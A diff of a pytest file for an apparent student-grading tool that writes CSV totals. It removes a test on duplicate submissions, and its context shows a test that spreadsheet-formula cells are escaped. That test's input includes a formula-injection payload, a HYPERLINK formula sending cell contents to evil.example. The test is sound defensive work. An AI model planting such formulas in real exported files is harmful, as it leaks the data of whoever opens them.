@@ -167,21 +167,6 @@ def test_students_are_in_natural_order(tmp_path, stub):
     assert _column(tmp_path / "out" / "g_totals.csv", "student") == ["S1", "s2a", "s2b", "s9", "s10", "s100"]
 
 
-@pytest.mark.parametrize("second", ["alice.zip", "Alice"])
-def test_two_submissions_of_one_student_are_an_error_naming_both(tmp_path, capsys, second):
-    subs = _students(tmp_path / "subs", "alice")
-    if second.endswith(".zip"):
-        _zip(subs / second, {"histograms.py": "x = 1\n"})
-    else:
-        _students(subs, second)
-    with pytest.raises(SystemExit) as info:
-        main([str(subs), "-o", str(tmp_path / "g.csv")])
-    err = capsys.readouterr().err
-    assert info.value.code == 2 and err.count("\n") == 1 and "two submissions for student" in err
-    assert str(subs / "alice") in err and str(subs / second) in err
-    assert not (tmp_path / "g.csv").exists()
-
-
 def test_cells_a_spreadsheet_would_run_are_escaped(tmp_path, stub):
     formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     stub(messages={"alice": formula, "bob": "+1 point", "carol": "-x", "dave": "@SUM(A1)", "erin": "\tx",
